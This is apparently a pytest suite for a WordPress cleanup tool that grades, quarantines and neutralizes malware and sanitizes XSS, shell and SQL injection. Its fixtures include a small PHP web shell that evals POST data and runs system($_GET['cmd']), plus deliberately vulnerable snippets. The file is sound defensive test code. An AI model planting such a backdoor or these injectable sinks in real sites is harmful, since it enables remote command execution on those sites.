"""Tests for malware cleanup and injection sanitizing."""

from __future__ import annotations

from pathlib import Path

import pytest

from sitemend.core.config import StrategyConfig
from sitemend.core.models import PermissionsRollback, Vulnerability
from sitemend.core.site import SyntaxCheck
from sitemend.fix.strategies.code_remediation import (
    NEUTRALIZED_PREFIX,
    CodeRemediationFixStrategy,
    analyze_malware,
    neutralize_lines,
    sanitize_shell,
    sanitize_sql,
    sanitize_xss,
)
from sitemend.fix.strategy import FixOptions

BACKDOOR = """<?php
$payload = base64_decode($_POST['p']);
eval($payload);
system($_GET['cmd']);
"""

SINGLE_EVAL = """<?php
function gallery_init() {
    eval($_POST['x']);
    return true;
}
"""

GALLERY = "wp-content/plugins/old-gallery/gallery.php"
CONTACT = "wp-content/plugins/contact/contact.php"


def _make_vuln(vuln_type: str, path: str, confidence: float = 0.95) -> Vulnerability:
    return Vulnerability(id=f"code-{vuln_type}", type=vuln_type, affected_resources=[path], confidence=confidence)


class TestAnalysis:
    def test_grades_by_pattern_count(self):
        """Three or more patterns is high; one is low."""
        assert analyze_malware(BACKDOOR).severity == "high"
        assert analyze_malware(SINGLE_EVAL).severity == "low"
        assert analyze_malware("<?php echo 'hi';").severity == "none"

    def test_encoded_blob_is_medium(self):
        """Long base64 blobs raise the grade to medium."""
        analysis = analyze_malware("<?php $x = '" + "A" * 120 + "';")
        assert analysis.has_encoded_blob
        assert analysis.severity == "medium"

    def test_neutralized_lines_ignored(self):
        """Already neutralized lines do not count."""
        cleaned, count = neutralize_lines(SINGLE_EVAL)
        assert count == 1
        assert analyze_malware(cleaned).patterns_found == []

    def test_neutralize_keeps_indent_and_breaks_close_tag(self):
        """Neutralized lines keep indentation and cannot close PHP early."""
        cleaned, _ = neutralize_lines("    eval($x); ?>\n")
        assert cleaned.startswith(f"    {NEUTRALIZED_PREFIX} [eval]:")
        assert "?>" not in cleaned


class TestSanitizers:
    def test_xss(self):
        """Echoed request data is escaped."""
        out, count = sanitize_xss("<?php echo $_GET['name']; ?>")
        assert count == 1
        assert "echo esc_html($_GET['name'])" in out

    def test_shell(self):
        """Shell calls on request data are escaped."""
        out, count = sanitize_shell("system($_GET['cmd']);")
        assert count == 1
        assert out == "system(escapeshellcmd($_GET['cmd']));"

    def test_sql(self):
        """Concatenated queries become prepared statements."""
        out, count = sanitize_sql("$wpdb->query(\"SELECT * FROM t WHERE id = \" . $_GET['id']);")
        assert count == 1
        assert out == "$wpdb->query($wpdb->prepare(\"SELECT * FROM t WHERE id = %s\", $_GET['id']));"


class TestGate:
    def test_malware_needs_confidence(self, site, site_root: Path):
        """Malware findings at or below the confidence floor are not auto-fixed."""
        (site_root / GALLERY).write_text(BACKDOOR)
        strategy = CodeRemediationFixStrategy(site)
        assert not strategy.can_auto_fix(_make_vuln("malware", GALLERY, confidence=0.8))
        assert strategy.can_auto_fix(_make_vuln("malware", GALLERY, confidence=0.95))

    def test_configured_floor(self, site, site_root: Path):
        """The malware confidence floor is configurable."""
        (site_root / GALLERY).write_text(BACKDOOR)
        strategy = CodeRemediationFixStrategy(site, StrategyConfig(malware_min_confidence=0.5))
        assert strategy.can_auto_fix(_make_vuln("malware", GALLERY, confidence=0.6))

    def test_needs_existing_files(self, site):
        """Missing or no files means no automatic fix."""
        strategy = CodeRemediationFixStrategy(site)
        assert not strategy.can_auto_fix(_make_vuln("xss", "missing.php"))
        assert not strategy.can_auto_fix(Vulnerability(id="v", type="xss"))

    def test_inactive_plugin_risk(self, site, site_root: Path):
        """Malware in an inactive plugin stays below the safety threshold."""
        (site_root / GALLERY).write_text(BACKDOOR)
        assessment = CodeRemediationFixStrategy(site).assess_fix_safety(_make_vuln("malware", GALLERY))
        assert assessment.risk_level == pytest.approx(0.6)

    def test_core_files_raise_risk(self, site):
        """Core files push code fixes over the threshold."""
        assessment = CodeRemediationFixStrategy(site).assess_fix_safety(
            _make_vuln("malware", "wp-includes/functions.php")
        )
        assert assessment.risk_level >= 0.7
        assert "Core platform files affected" in assessment.risk_factors


class TestQuarantine:
    def test_quarantine_and_rollback(self, site, site_root: Path):
        """High-grade files are quarantined and restored byte for byte."""
        (site_root / GALLERY).write_text(BACKDOOR)
        original = (site_root / GALLERY).read_bytes()
        strategy = CodeRemediationFixStrategy(site)
        vuln = _make_vuln("malware", GALLERY)

        result = strategy.apply_fix(vuln)
        assert result.success
        assert result.changes_made[0].action == "quarantine"
        stub = (site_root / GALLERY).read_text()
        assert "quarantined by sitemend" in stub
        copy = Path(result.rollback_data.quarantined[GALLERY])
        assert copy.parent == site.state_dir / "quarantine"
        assert copy.read_bytes() == original

        validation = strategy.validate_fix(vuln, result)
        assert validation.is_valid, validation.issues_found

        assert strategy.rollback_fix(vuln, result.rollback_data).success
        assert (site_root / GALLERY).read_bytes() == original
        assert not copy.exists()

    def test_dry_run(self, site, site_root: Path):
        """A dry run quarantines nothing."""
        (site_root / GALLERY).write_text(BACKDOOR)
        result = CodeRemediationFixStrategy(site).apply_fix(_make_vuln("malware", GALLERY), FixOptions(dry_run=True))
        assert result.changes_made[0].detail.startswith("Would quarantine")
        assert (site_root / GALLERY).read_text() == BACKDOOR
        assert not (site.state_dir / "quarantine").exists()


class TestNeutralize:
    def test_neutralize_in_place(self, site, site_root: Path):
        """Low-grade files keep running with the dangerous line commented out."""
        (site_root / GALLERY).write_text(SINGLE_EVAL)
        strategy = CodeRemediationFixStrategy(site)
        vuln = _make_vuln("malware", GALLERY)

        result = strategy.apply_fix(vuln)
        assert result.changes_made[0].action == "neutralize"
        text = (site_root / GALLERY).read_text()
        assert NEUTRALIZED_PREFIX in text
        assert "return true;" in text
        assert strategy.validate_fix(vuln, result).is_valid

    def test_idempotent(self, site, site_root: Path):
        """A cleaned file is not touched again."""
        (site_root / GALLERY).write_text(SINGLE_EVAL)
        strategy = CodeRemediationFixStrategy(site)
        vuln = _make_vuln("malware", GALLERY)
        strategy.apply_fix(vuln)
        cleaned = (site_root / GALLERY).read_bytes()

        second = strategy.apply_fix(vuln)
        assert second.success
        assert second.changes_made == []
        assert (site_root / GALLERY).read_bytes() == cleaned

    def test_unresolvable_blob_fails(self, site, site_root: Path):
        """Suspicious content that cannot be neutralized is reported as a failure."""
        (site_root / GALLERY).write_text("<?php $x = '" + "A" * 120 + "';\n")
        result = CodeRemediationFixStrategy(site).apply_fix(_make_vuln("malware", GALLERY))
        assert not result.success
        assert "could not be removed automatically" in result.error


class TestInjection:
    def test_xss_fixed_in_active_plugin(self, site, site_root: Path):
        """Reflected output in an active plugin is escaped and validated."""
        (site_root / CONTACT).write_text("<?php\necho $_GET['name'];\n")
        strategy = CodeRemediationFixStrategy(site)
        vuln = _make_vuln("xss", CONTACT)

        assessment = strategy.assess_fix_safety(vuln)
        assert "Active theme or plugin files affected" in assessment.risk_factors

        result = strategy.apply_fix(vuln)
        assert result.success
        assert "esc_html($_GET['name'])" in (site_root / CONTACT).read_text()
        validation = strategy.validate_fix(vuln, result)
        assert validation.validation_tests["sinks_sanitized"].passed

    def test_syntax_failure_invalidates(self, make_site, site_root: Path):
        """A lint failure after sanitizing makes validation fail."""
        class _Broken:
            def check(self, path):
                return SyntaxCheck(ok=False, output="Parse error")

        site = make_site()
        site.syntax = _Broken()
        (site_root / CONTACT).write_text("<?php\necho $_GET['name'];\n")
        strategy = CodeRemediationFixStrategy(site)
        vuln = _make_vuln("xss", CONTACT)
        result = strategy.apply_fix(vuln)
        assert not strategy.validate_fix(vuln, result).is_valid

    def test_non_code_files_skipped(self, site, site_root: Path):
        """Files without a code extension are left alone."""
        result = CodeRemediationFixStrategy(site).apply_fix(_make_vuln("xss", "wp-content/uploads/2026/photo.jpg"))
        assert result.success
        assert result.changes_made == []


class TestRollbackData:
    def test_foreign_rollback_data_refused(self, site):
        """Rollback data from another strategy is refused."""
        result = CodeRemediationFixStrategy(site).rollback_fix("v", PermissionsRollback(modes={"a": 0o644}))
        assert not result.success
        assert result.message == "code_remediation cannot roll back file_permissions data"
